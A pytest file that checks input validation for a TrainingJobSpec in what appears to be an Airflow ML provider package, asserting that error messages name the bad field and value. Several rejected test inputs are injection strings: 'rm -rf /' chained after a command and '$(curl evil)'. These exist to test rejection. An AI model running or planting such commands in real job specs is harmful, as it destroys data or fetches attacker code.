"""TrainingJobSpec rejects bad input with a message naming the field and the value."""

from __future__ import annotations

import pytest

from airflow_ml_provider.jobs.spec import Framework, SpecError, TrainingJobSpec


def spec(**overrides) -> TrainingJobSpec:
    return TrainingJobSpec(**{"framework": "horovod", "command": ["python", "train.py"], "num_workers": 2,
                              **overrides})


def test_valid_spec_keeps_argv_and_defaults():
    built = spec(env={"LR": "0.1"})
    assert built.framework is Framework.HOROVOD
    assert built.command == ["python", "train.py"]
    assert built.resources.gpu == 0 and not built.elastic


@pytest.mark.parametrize(
    ("overrides", "field", "fragment"),
    [
        ({"num_workers": 0}, "TrainingJobSpec.num_workers", "greater than or equal to 1"),
        ({"command": []}, "TrainingJobSpec.command", "at least 1 item"),
        ({"command": "python train.py; rm -rf /"}, "TrainingJobSpec.command", "not a shell string"),
        ({"command": ["python train.py; rm -rf /"]}, "TrainingJobSpec.command", "shell syntax"),
        ({"command": ["$(curl evil)", "x"]}, "TrainingJobSpec.command", "shell syntax"),
        ({"command": [""]}, "TrainingJobSpec.command", "empty"),
        ({"framework": "tensorflow"}, "TrainingJobSpec.framework", "'horovod', 'lightgbm', 'pytorch', 'xgboost', 'tensorflow-ps' or 'generic'"),
        ({"env": {"BAD NAME": "x"}}, "TrainingJobSpec.env", "not a valid environment variable name"),
        ({"resources": {"gpu": -1}}, "TrainingJobSpec.resources.gpu", "greater than or equal to 0"),
        ({"resources": {"memory": "lots"}}, "TrainingJobSpec.resources.memory", "pattern"),
        ({"min_workers": 3}, "TrainingJobSpec", "min_workers (3) <= num_workers (2)"),
        ({"surprise": 1}, "TrainingJobSpec.surprise", "Extra inputs are not permitted"),
        ({"kubernetes": {"secret_env": {"1X": {"secret": "s", "key": "k"}}}}, "TrainingJobSpec.kubernetes.secret_env",
         "not a valid environment variable name"),
        ({"kubernetes": {"volumes": [{"name": "data", "mount_path": "/data"}]}}, "TrainingJobSpec.kubernetes.volumes.0",
         "exactly one of claim or host_path"),
        ({"scheduling": {"gang": "sometimes"}}, "TrainingJobSpec.scheduling.gang", "valid boolean"),
    ],
)
def test_bad_specs_name_the_field(overrides, field, fragment):
    with pytest.raises(SpecError) as error:
        spec(**overrides)
    message = str(error.value)
    assert field in message and fragment in message, message


def test_shell_characters_inside_arguments_are_data():
    """Only argv[0] must be a plain program: arguments may hold any characters, since no shell runs."""
    built = spec(command=["python", "-c", "print('a; b && $(c)')"])
    assert built.command[2] == "print('a; b && $(c)')"


def test_elastic_bounds_accept_a_range():
    built = spec(num_workers=2, min_workers=1, max_workers=4)
    assert built.elastic and (built.min_workers, built.max_workers) == (1, 4)
